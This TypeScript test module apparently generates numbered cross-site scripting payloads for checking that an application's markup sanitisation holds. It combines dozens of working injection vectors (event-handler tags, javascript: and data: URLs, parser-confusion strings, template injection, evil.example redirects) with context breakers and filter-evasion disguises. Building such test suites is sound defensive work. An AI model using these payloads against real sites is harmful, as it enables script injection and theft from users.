/**
 * Texts that try to become code when a place draws them as markup (SECURITY 5.5). Each calls `window.executed(number)` if it runs.
 * Generated from vectors, what breaks out of the surroundings, and disguises; the same number gives the same text.
 */

type Vector = (code: string) => string

/** Run by themselves as soon as they are parsed into a document. */
const markup: readonly Vector[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload="${code}"></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<script>${code}</script>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src=x onerror="${code}"></audio>`,
  (code) => `<body onpageshow="${code}">`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${code}">x</b>`,
  (code) =>
    `<form id=x></form><button form=x formaction="javascript:${code}" autofocus onfocus="${code}">x</button>`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  (code) => `<template><img src=x onerror="${code}"></template><img src=x onerror="${code}">`,
  (code) => `<a href="javascript:${code}" autofocus onfocus="${code}" tabindex=0>x</a>`,
  (code) => `<base href="javascript:/"><a href="//${code}">x</a><img src=x onerror="${code}">`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<link rel=stylesheet href="data:text/css,x" onload="${code}">`,
]

/** Addresses that are code. */
const addresses: readonly Vector[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `vbscript:${code}`,
  (code) => `//evil.example/${code}`,
  (code) => `/\\evil.example/${code}`,
]

/** Languages of templates and of messages. */
const templates: readonly Vector[] = [
  (code) => `{{constructor.constructor('${code.replaceAll("'", '"')}')()}}`,
  (code) => '${' + code + '}',
  (code) => `$t(common:close, {"x": "<img src=x onerror=${code}>"})`,
  (code) => `{{- x}}<img src=x onerror=${code}>`,
  (code) => `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `\\u003cimg src=x onerror=${code}\\u003e`,
]

const vectors: readonly Vector[] = [...markup, ...addresses, ...templates]

/** What ends the surroundings a text may stand in. */
const breakers: readonly string[] = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '"}]}</script>',
  '\u2028',
  '`',
  '\\"',
  'Text & "Text" ',
]

/** Ways to write the same that some readers take for it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/ on(\w+)=/g, '/on$1='),
  (text) => text.replace(/<(\w+) /g, '<$1\n'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('script', 'scr\u0131pt'),
  (text) => `${text}<!--`,
  (text) => text.repeat(2),
  (text) => `\u202E${text}`,
]

/** The text with this number, from 0; numbers beyond all combinations begin again with another number in the code. */
export function payload(number: number): string {
  const code = `executed(${number})`
  const vector = vectors[number % vectors.length] ?? String
  const rest = Math.floor(number / vectors.length)
  const breaker = breakers[rest % breakers.length] ?? ''
  const disguise = disguises[Math.floor(rest / breakers.length) % disguises.length] ?? String
  return breaker + disguise(vector(code))
}

/** Whether a text runs by itself where it is parsed as markup: what a control must show. */
export function isMarkup(number: number): boolean {
  return number % vectors.length < markup.length
}

/** Payloads `from` to `to` (exclusive). */
export function payloads(from: number, to: number): string[] {
  return Array.from({ length: to - from }, (_, index) => payload(from + index))
}
